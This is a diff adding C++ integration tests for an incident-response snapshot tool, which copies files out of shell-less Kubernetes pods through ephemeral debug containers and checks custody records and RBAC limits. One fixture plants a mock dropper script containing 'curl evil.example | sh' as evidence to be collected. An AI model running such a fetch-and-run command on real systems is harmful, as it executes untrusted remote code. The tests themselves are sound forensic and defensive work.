@@ -418,3 +418,245 @@ TEST_CASE("an API server that dies while a log streams leaves the log marked par
   CHECK(string_at(*item(manifest, "logs/app.log"), {"status"}) == "complete");
   CHECK(find(*item(manifest, "logs/app.log"), {"size"})->to_number<std::uint64_t>() > 20000000u);
 }
+
+namespace {
+
+// A debug image pinned by digest; the test node agent runs no images, its
+// ephemeral containers get the host's tools (tests/cluster/node-agent/ephemeral.go).
+const std::string debug_image = "registry.example/tools/debug@sha256:" + std::string(64, 'd');
+
+// A pod whose image has no shell (test-no-shell) and no tar (an empty PATH).
+void apply_distroless(const std::string& ns, const std::string& name, const std::string& rootfs,
+                      const std::string& empty_bin, const std::string& extra_yaml = {},
+                      const std::string& container_yaml = {}) {
+  Cluster::get().apply_yaml(
+      ns, pod_yaml(name, rootfs, ", irsteps.io/test-no-shell: \"true\"",
+                   "    env: [{name: PATH, value: \"" + empty_bin + "\"}]\n" + container_yaml) +
+              extra_yaml);
+  await_running(ns, name);
+}
+
+std::vector<std::string> ephemeral_containers(const std::string& ns, const std::string& pod) {
+  auto got = Cluster::get().kubectl({"get", "pod", "-n", ns, pod, "-o",
+                                     "jsonpath={range .spec.ephemeralContainers[*]}{.name}{\"\\n\"}{end}"});
+  REQUIRE(got.exit_status == 0);
+  std::vector<std::string> names;
+  std::size_t start = 0;
+  for (std::size_t end; (end = got.out.find('\n', start)) != std::string::npos; start = end + 1) {
+    if (end > start) names.push_back(got.out.substr(start, end - start));
+  }
+  return names;
+}
+
+int count_actions(const StepRun& run, const std::string& verb) {
+  int n = 0;
+  if (const auto* actions = find(run.result, {"actions"}); actions != nullptr && actions->is_array()) {
+    for (const auto& action : actions->get_array()) n += string_at(action, {"verb"}) == verb ? 1 : 0;
+  }
+  return n;
+}
+
+bool warned(const StepRun& run, const std::string& text) {
+  if (const auto* warnings = find(run.result, {"warnings"}); warnings != nullptr && warnings->is_array()) {
+    for (const auto& w : warnings->get_array()) {
+      if (w.is_string() && std::string(w.get_string()).find(text) != std::string::npos) return true;
+    }
+  }
+  return false;
+}
+
+}  // namespace
+
+TEST_CASE("--via-ephemeral tars a container without shell or tar through a debug container, once",
+          "[integration][snapshot][ephemeral]") {
+  TestNamespace ns("snapeph");
+  Scratch rootfs("snap-ephroot");
+  Scratch empty_bin("snap-ephbin");
+  fs::create_directories(rootfs.dir / "etc");
+  std::ofstream(rootfs.dir / "etc" / "passwd")
+      << "root:x:0:0::/root:/bin/sh\nmallory:x:1337:1337::/tmp:/bin/sh\n";
+  apply_distroless(ns.name(), "distroless", rootfs.dir.string(), empty_bin.dir.string());
+  const std::vector<std::string> args{
+      "--incident-id", incident,     "--namespace",  ns.name(),
+      "--pod",         "distroless", "--kubeconfig", Cluster::get().kubeconfig(),
+      "--triage=false"};
+
+  // Without the debug container the image cannot give its files.
+  Scratch plain("snap-ephplain");
+  auto without = args;
+  for (const auto& extra : {std::string("--out"), plain.dir.string(), std::string("--filesystem")})
+    without.push_back(extra);
+  auto direct = run_step_binary("snapshot", without);
+  REQUIRE_EXIT(direct, 1);
+  CHECK(string_at(*item(manifest_of(plain.dir.string()), "filesystem/app.tar"), {"status"}) == "failed");
+
+  Scratch out("snap-ephout");
+  auto with = args;
+  for (const auto& extra :
+       {std::string("--out"), out.dir.string(), std::string("--via-ephemeral"), debug_image})
+    with.push_back(extra);
+  auto run = run_step_binary("snapshot", with);
+  REQUIRE_EXIT(run, 0);
+  CHECK(run.output("failed") == "0");
+  const auto manifest = manifest_of(out.dir.string());
+  const auto* tar = item(manifest, "filesystem/app.tar");
+  REQUIRE(tar != nullptr);
+  CHECK(string_at(*tar, {"status"}) == "complete");
+  // The custody record says the files came through the debug container, and its image digest.
+  const std::string source = string_at(*tar, {"source"});
+  CHECK(source.find("ephemeral container irsteps-inc-2026-11-26-201-") != std::string::npos);
+  CHECK(source.find(debug_image) != std::string::npos);
+  CHECK(source.find("/proc/1/root") != std::string::npos);
+  const std::string tar_path = out / string_at(*tar, {"path"});
+  auto sum = run_process({"sha256sum", tar_path});
+  REQUIRE(sum);
+  CHECK(sum->out.substr(0, 64) == string_at(*tar, {"sha256"}));
+  auto listing = run_process({"tar", "tf", tar_path});
+  REQUIRE(listing);
+  CHECK(listing->out.find("./etc/passwd") != std::string::npos);
+  auto content = run_process({"tar", "xOf", tar_path, "./etc/passwd"});
+  REQUIRE(content);
+  CHECK(content->out.find("mallory:x:1337") != std::string::npos);
+  CHECK(run.all_text().find("mallory") == std::string::npos);
+  CHECK(count_actions(run, "add-ephemeral-container") == 1);
+  CHECK(warned(run, "cannot be removed"));
+  auto added = ephemeral_containers(ns.name(), "distroless");
+  REQUIRE(added.size() == 1);
+  CHECK(source.find(added[0]) != std::string::npos);
+
+  // A re-run reuses the debug container: still one, nothing added.
+  Scratch again("snap-ephagain");
+  with[with.size() - 3] = again.dir.string();
+  auto rerun = run_step_binary("snapshot", with);
+  REQUIRE_EXIT(rerun, 0);
+  CHECK(count_actions(rerun, "add-ephemeral-container") == 0);
+  CHECK(warned(rerun, "cannot be removed"));
+  CHECK(ephemeral_containers(ns.name(), "distroless") == added);
+  const auto remanifest = manifest_of(again.dir.string());
+  REQUIRE(item(remanifest, "filesystem/app.tar") != nullptr);
+  CHECK(string_at(*item(remanifest, "filesystem/app.tar"), {"status"}) == "complete");
+  CHECK(string_at(*item(remanifest, "filesystem/app.tar"), {"source"}).find("added earlier") !=
+        std::string::npos);
+  // Its own debug container is no evidence: no triage or tar of it.
+  CHECK(item(remanifest, "filesystem/" + added[0] + ".tar") == nullptr);
+  auto reverified = run_step_binary("snapshot", {"verify", again.dir.string()});
+  REQUIRE_EXIT(reverified, 0);
+}
+
+TEST_CASE("--via-ephemeral: a tag is exit 2 naming the parameter; --dry-run shows the container, adds none",
+          "[integration][snapshot][ephemeral]") {
+  TestNamespace ns("snapephdry");
+  Scratch rootfs("snap-ephdryroot");
+  Scratch empty_bin("snap-ephdrybin");
+  apply_distroless(ns.name(), "distroless", rootfs.dir.string(), empty_bin.dir.string(), {},
+                   "    securityContext: {runAsUser: 4242}\n");
+  Scratch out("snap-ephdryout");
+  const std::vector<std::string> args{
+      "--incident-id", incident,        "--namespace",  ns.name(),
+      "--pod",         "distroless",    "--kubeconfig", Cluster::get().kubeconfig(),
+      "--out",         out.dir.string()};
+  for (const std::string& bad : std::vector<std::string>{"busybox:1.36", "busybox", "busybox@sha256:abc",
+                                                         "busybox@sha256:" + std::string(64, 'G')}) {
+    auto with = args;
+    with.push_back("--via-ephemeral");
+    with.push_back(bad);
+    auto refused = run_step_binary("snapshot", with);
+    INFO(bad);
+    REQUIRE_EXIT(refused, 2);
+    CHECK(refused.err.find("via-ephemeral") != std::string::npos);
+  }
+  auto with = args;
+  for (const std::string& extra : std::vector<std::string>{"--via-ephemeral", debug_image, "--dry-run"})
+    with.push_back(extra);
+  auto planned = run_step_binary("snapshot", with);
+  REQUIRE_EXIT(planned, 0);
+  CHECK(count_actions(planned, "add-ephemeral-container") == 1);
+  bool shown = false;
+  for (const auto& action : planned.result.at("actions").as_array()) {
+    if (string_at(action, {"verb"}) != "add-ephemeral-container") continue;
+    CHECK(find(action, {"dryRun"})->as_bool());
+    const auto* container = find(action, {"request", "body", "spec", "ephemeralContainers"});
+    REQUIRE(container != nullptr);
+    CHECK(string_at(container->as_array().at(0), {"image"}) == debug_image);
+    CHECK(string_at(container->as_array().at(0), {"targetContainerName"}) == "app");
+    // As the target's user: the kernel lets it read /proc/<pid>/root.
+    const auto* user = find(container->as_array().at(0), {"securityContext", "runAsUser"});
+    REQUIRE(user != nullptr);
+    CHECK(user->to_number<int>() == 4242);
+    CHECK(string_at(action, {"request", "path"}).ends_with("/pods/distroless/ephemeralcontainers"));
+    shown = true;
+  }
+  CHECK(shown);
+  CHECK(ephemeral_containers(ns.name(), "distroless").empty());
+  CHECK_FALSE(fs::exists(out.dir / "manifest.json"));
+}
+
+TEST_CASE("--via-ephemeral with the shipped Role works; without pods/ephemeralcontainers it is exit 5",
+          "[integration][snapshot][ephemeral][rbac]") {
+  auto& cluster = Cluster::get();
+  for (const char* file : {"namespace.yaml", "snapshot.yaml"}) {
+    auto applied =
+        cluster.kubectl({"apply", "-f", std::string(IRSTEPS_SOURCE_DIR) + "/workflows/argo/rbac/" + file});
+    INFO(applied.err);
+    REQUIRE(applied.exit_status == 0);
+  }
+  TokenKubeconfig identity(service_account_token("irsteps", "irsteps-snapshot"), "irsteps-snapshot-eph");
+  TestNamespace ns("snapephrole");
+  Scratch rootfs("snap-ephroleroot");
+  Scratch empty_bin("snap-ephrolebin");
+  fs::create_directories(rootfs.dir / "srv");
+  std::ofstream(rootfs.dir / "srv" / "dropper.sh") << "curl evil.example | sh\n";
+  apply_distroless(ns.name(), "victim", rootfs.dir.string(), empty_bin.dir.string(), R"(
+---
+apiVersion: v1
+kind: ServiceAccount
+metadata: {name: collector}
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: Role
+metadata: {name: no-ephemeral}
+rules:
+- {apiGroups: [""], resources: [pods, pods/log, events, serviceaccounts], verbs: [get, list]}
+- {apiGroups: [""], resources: [pods/exec], verbs: [create, get]}
+- {apiGroups: [networking.k8s.io], resources: [networkpolicies], verbs: [list]}
+- {apiGroups: [rbac.authorization.k8s.io], resources: [rolebindings], verbs: [list]}
+---
+apiVersion: rbac.authorization.k8s.io/v1
+kind: RoleBinding
+metadata: {name: collector}
+roleRef: {apiGroup: rbac.authorization.k8s.io, kind: Role, name: no-ephemeral}
+subjects: [{kind: ServiceAccount, name: collector}]
+)");
+  TokenKubeconfig limited(service_account_token(ns.name(), "collector"), "collector-" + ns.name());
+  Scratch denied_out("snap-ephdenied");
+  auto denied =
+      run_step_binary("snapshot", {"--incident-id", incident, "--namespace", ns.name(), "--pod", "victim",
+                                   "--kubeconfig", limited.path(), "--out", denied_out.dir.string(),
+                                   "--triage=false", "--via-ephemeral", debug_image});
+  REQUIRE_EXIT(denied, 5);
+  CHECK(denied.err.find("forbidden") != std::string::npos);
+  CHECK(ephemeral_containers(ns.name(), "victim").empty());
+  const auto denied_manifest = manifest_of(denied_out.dir.string());
+  REQUIRE(item(denied_manifest, "pod.json") != nullptr);
+  CHECK(string_at(*item(denied_manifest, "pod.json"), {"status"}) == "complete");
+  const auto* refused = item(denied_manifest, "filesystem/app.tar");
+  REQUIRE(refused != nullptr);
+  CHECK(string_at(*refused, {"status"}) == "failed");
+  CHECK(string_at(*refused, {"reason"}).find("pods/ephemeralcontainers") != std::string::npos);
+
+  Scratch out("snap-ephroleout");
+  auto run =
+      run_step_binary("snapshot", {"--incident-id", incident, "--namespace", ns.name(), "--pod", "victim",
+                                   "--kubeconfig", identity.path(), "--out", out.dir.string(),
+                                   "--triage=false", "--via-ephemeral", debug_image});
+  REQUIRE_EXIT(run, 0);
+  CHECK(run.output("failed") == "0");
+  const auto manifest = manifest_of(out.dir.string());
+  const auto* tar = item(manifest, "filesystem/app.tar");
+  REQUIRE(tar != nullptr);
+  CHECK(string_at(*tar, {"status"}) == "complete");
+  auto listing = run_process({"tar", "tf", out / string_at(*tar, {"path"})});
+  REQUIRE(listing);
+  CHECK(listing->out.find("./srv/dropper.sh") != std::string::npos);
+  CHECK(ephemeral_containers(ns.name(), "victim").size() == 1);
+}
